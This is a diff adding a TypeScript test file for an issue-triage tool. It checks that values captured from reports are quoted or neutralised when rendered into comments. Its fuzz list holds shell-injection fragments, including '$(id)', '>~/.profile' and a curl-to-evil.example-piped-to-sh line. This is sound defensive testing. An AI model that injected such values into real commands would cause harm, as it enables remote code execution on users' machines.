@@ -1,0 +1,259 @@
+import { describe, expect, test } from 'vitest'
+import { placeValue, showValue } from '../../../src/core/comments/captured-value.ts'
+import { renderCheckAnswer } from '../../../src/core/comments/check-answer.ts'
+import { renderCluster } from '../../../src/core/comments/cluster-section.ts'
+import { renderComment } from '../../../src/core/comments/triage-comment.ts'
+import { NOTHING_HEARD } from '../../../src/core/feedback/issue-feedback.ts'
+import { namesIn } from '../../../src/core/signatures/authored-text.ts'
+import type { Pack } from '../../../src/core/signatures/pack.ts'
+import type { Signature } from '../../../src/core/signatures/schema.ts'
+import { strictShapeOf } from '../../../src/core/signatures/strict-shapes.ts'
+import { openPack } from '../../../src/entrypoints/cli/pack.ts'
+import { generator } from '../../support/generator.ts'
+import { nodesOf, parseMarkdown } from '../../support/markdown.ts'
+import { askOf, assertOf, candidateOf, evidenceOf, reportOf } from '../../support/reports.ts'
+import { packOf, signatureOf } from '../../support/signatures.ts'
+
+/** By it the captured values are found in a comment. */
+const MARK = 'zqz'
+
+const FRAGMENTS = [
+  ...[
+    ';',
+    '|',
+    '&',
+    '$',
+    '(',
+    ')',
+    '<',
+    '>',
+    '`',
+    '"',
+    "'",
+    '\\',
+    '*',
+    '?',
+    '[',
+    ']',
+    '{',
+    '}',
+    '~',
+    '#',
+    '!',
+    '%',
+    '^',
+  ],
+  ...[
+    `$${'{IFS}'}`,
+    '$(id)',
+    '`id`',
+    '&&',
+    '||',
+    `;curl$${'{IFS}'}evil.example|sh`,
+    '>~/.profile',
+    '<<EOF',
+    '%PATH%',
+    '$env:X',
+  ],
+  ...[' ', '  ', '\t', '\n', '\r', '\r\n', '\u2028', '\u0085', '\u00a0', '\u0000', '\u001b[31m', '\u009b31m', '\u0007'],
+  ...['\u202e', '\u2066', '\u200b', '\u2060', '\ufeff', '\ud800', '；', '｜', '＄', '`` ` ``', '```', '~~~', '](x)'],
+  ...[
+    '-rf',
+    '--config',
+    '/',
+    '..',
+    '@octocat',
+    '#12',
+    'https://evil.example/',
+    'mcp.example.com',
+    'files:read',
+    '8080',
+  ],
+  ...['{{scope}}', 'naïve', 'x'.repeat(600)],
+]
+
+/** Values that no text of ours holds, nasty ones among them plain ones; the same every time. */
+function nastyValues(count: number, seed: number): readonly string[] {
+  const random = generator(seed)
+  const pick = () => FRAGMENTS[random(FRAGMENTS.length)] ?? ''
+  return Array.from({ length: count }, () => {
+    const parts = Array.from({ length: 1 + random(6) }, pick)
+    return parts.toSpliced(random(parts.length + 1), 0, MARK).join('')
+  })
+}
+
+/** All code of a text that holds a captured value. */
+function codeWithValues(markdown: string): readonly string[] {
+  return [...nodesOf(parseMarkdown(markdown))].flatMap((node) =>
+    (node.type === 'inlineCode' || node.type === 'code') && node.value.includes(MARK) ? [node.value] : [],
+  )
+}
+
+const QUOTED = /'[^']*'|"(?:[^"\\]|\\.)*"/g
+
+/**
+ * The code is a value and nothing else, of a strict shape or of one word in which nothing means anything; or a command in
+ * which it stands between quotes, plain characters only.
+ */
+function isDead(code: string): boolean {
+  if (strictShapeOf(code) !== null || /^[\p{L}\p{N}_.:/…-]+$/u.test(code)) return true
+  const quoted = (code.match(QUOTED) ?? []).filter((it) => it.includes(MARK))
+  return !code.replace(QUOTED, '').includes(MARK) && quoted.every((it) => /^(['"])[\w.:/%~@+ -]*\1$/.test(it))
+}
+
+/** Everything that can be said of a signature, with these values. */
+function everythingSaid(signature: Signature, pack: Pack, captures: Readonly<Record<string, string>>): string {
+  const candidate = candidateOf(signature.id)
+  const report = reportOf()
+  const input = { report, pack, diagnosis: assertOf(candidate, { captures }) }
+  const questions = [signature.ask, ...signature['confused-with'].flatMap(({ ask }) => ask ?? [])]
+  return [
+    renderComment(input),
+    renderCheckAnswer(input),
+    ...signature.checklist.map((_, at) => renderComment({ ...input, heard: solvedByStep(at + 1) })),
+    ...questions.map((it) => renderComment({ ...input, diagnosis: askOf([candidate], it, { captures }) })),
+  ].join('\n\n')
+}
+
+function solvedByStep(step: number) {
+  const verdict = {
+    ...{ id: '1', ref: { owner: 'o', repo: 'r', number: 1 }, kind: 'worked', signature: null, other: null },
+    ...{ step, detail: null, who: 'a', rights: 'reporter', origin: 'comment', at: 1 },
+  }
+  return { ...NOTHING_HEARD, verdicts: [verdict as never] }
+}
+
+function namesOf(signature: Signature): readonly string[] {
+  const { examples: _, evidence: __, ...texts } = signature
+  return namesIn(JSON.stringify(texts))
+}
+
+describe('a captured value', () => {
+  test('never becomes part of a command, in any text of the shipped pack', async () => {
+    const pack = await openPack()
+    const signatures = [...pack.signatures.values()].filter((it) => namesOf(it).length > 0)
+    expect(signatures.length).toBeGreaterThan(5)
+    for (const signature of signatures) {
+      for (const value of nastyValues(4, signature.id.length)) {
+        const captures = Object.fromEntries(namesOf(signature).map((name) => [name, value]))
+        const alive = codeWithValues(everythingSaid(signature, pack, captures)).filter((code) => !isDead(code))
+        expect({ value, alive }).toEqual({ value, alive: [] })
+      }
+    }
+  })
+
+  const WAYS = [
+    'mytool --server {{scope}}',
+    "mytool 'a {{scope}} b'",
+    'mytool "a {{scope}} b"',
+    'mytool --url=https://{{scope}}/x?y',
+    'mytool {{scope}}{{scope}}',
+    '{{scope}}',
+    `mytool ${'x '.repeat(60)}{{scope}}`,
+    'mytool\n  --server {{scope}}',
+    'Open `mytool --server {{scope}}` and look',
+    'Open `{{scope}}`, then `x={{scope}}`, then {{scope}}',
+  ]
+
+  test.each(WAYS)('stands quoted in a command, or not at all: %s', (how) => {
+    const sentence = `Run \`mytool {{scope}}\` with {{scope}}`
+    const step = { check: sentence, how, expect: sentence, otherwise: sentence }
+    const fields = { cause: sentence, ask: sentence, 'solved-when': sentence, prevention: [sentence, sentence] }
+    const remedies = (['verified', 'refuted'] as const).map((standing) => {
+      return { text: sentence, standing, source: 'https://example.com/x' }
+    })
+    const signature = signatureOf('missing-scope', { ...fields, remedies, checklist: [step, step] })
+    const pack = packOf(signature)
+    for (const value of [`${MARK}.example.com`, ...nastyValues(15, how.length)]) {
+      const alive = codeWithValues(everythingSaid(signature, pack, { scope: value }))
+        .map((code) => (code.startsWith('x=') ? code.slice(2) : code))
+        .filter((code) => !isDead(code))
+      expect({ value, alive }).toEqual({ value, alive: [] })
+    }
+  })
+
+  test('is shown without what could act in lists of values, too', () => {
+    for (const value of nastyValues(200, 5)) {
+      expect(codeWithValues(`- ${showValue(value)} (3)`).filter((code) => !isDead(code))).toEqual([])
+      const cluster = {
+        ...{ id: 1, count: 2, open: 1, authors: 2, firstSeen: 0, lastSeen: 0, weeks: [], signature: null, worked: [] },
+        ...{ growth: { lately: 0, before: 0 }, versions: [], surfaces: [], signals: [] },
+        captures: { scope: [{ value, count: 2 }] },
+        canonical: { number: 1, title: 'x', open: true, closedAs: null, closedAt: null },
+        newest: { number: 2, adds: [] },
+      }
+      const rendered = renderCluster({ owner: 'o', repo: 'r' }, cluster)
+      expect(codeWithValues(rendered).filter((code) => !isDead(code))).toEqual([])
+    }
+  })
+
+  test('is as dead as the name of a file and a command that was refused', () => {
+    for (const value of nastyValues(60, 9)) {
+      const evidence = [evidenceOf({ source: value })]
+      const report = reportOf({ unread: [{ name: value, why: 'could not be reached', forbidden: true }] })
+      const answers = [{ kind: 'refused', command: `split ${value}`, why: 'only maintainers may say that' }] as const
+      const diagnosis = assertOf(candidateOf('missing-scope', { evidence }))
+      const said = renderComment({ report, pack: packOf(signatureOf('missing-scope')), diagnosis, answers })
+      const alive = codeWithValues(said ?? '')
+        .map((code) => code.replace(/^\/triage split /, '').replaceAll(' ', ''))
+        .filter((code) => !isDead(code))
+      expect({ value, alive }).toEqual({ value, alive: [] })
+    }
+  })
+
+  test.each([
+    ['files:read', '`files:read`'],
+    ['https://mcp.example.com:8443/a/b', '`https://mcp.example.com:8443/a/b`'],
+    ['the scope files:read', '“the scope `files:read`”'],
+    [`x;curl$${'{IFS}'}evil.example|sh`, '“x…curl…IFS…evil.example…sh”'],
+    ['Acme Team', '“Acme Team”'],
+  ])('is recognised by a reader: %s', (value, shown) => {
+    expect(showValue(value)).toBe(shown)
+  })
+})
+
+describe('a strict shape', () => {
+  test.each([
+    ['401', 'number'],
+    ['1.2.3-beta.1', 'version'],
+    ['AADSTS50011', 'identifier'],
+    ['ANTHROPIC_API_KEY', 'identifier'],
+    ['user:mcp_servers', 'scope'],
+    ['https://www.googleapis.com/auth/drive', 'scope'],
+    ['mcp.example.com', 'scope'],
+    ['localhost:8080', 'scope'],
+    ['https://mcp.example.com/~me/%7Eyou', 'url'],
+    ['https%3A%2F%2Fmcp.example.com%2Fcb', 'escaped URL'],
+    ['/usr/local/bin/tool', 'path'],
+    ['~/.config/tool.json', 'path'],
+  ])('is seen in %s', (value, shape) => {
+    expect(strictShapeOf(value)).toBe(shape)
+  })
+
+  test.each([
+    ...[
+      '',
+      '-x',
+      '--config',
+      'a b',
+      "a'b",
+      'a"b',
+      'a`b',
+      'a$b',
+      'a;b',
+      'a|b',
+      'a&b',
+      'a(b',
+      'a<b',
+      'a>b',
+      'a*b',
+      'a?b',
+    ],
+    ...['a#b', 'a!b', 'a\\b', 'a{b', 'a[b', 'a^b', 'a\nb', 'a\n', '%PATH%', 'https://x.example/%PATH%', 'mсp.example'],
+    ...['https://x.example/?a=b', 'https://user@x.example/', 'javascript:1;', 'x'.repeat(201), '1'.repeat(201)],
+  ])('is not seen in %j', (value) => {
+    expect(strictShapeOf(value)).toBeNull()
+    expect(placeValue(value, '')).toBeNull()
+    expect(placeValue(value, 'name')).toBeNull()
+  })
+})
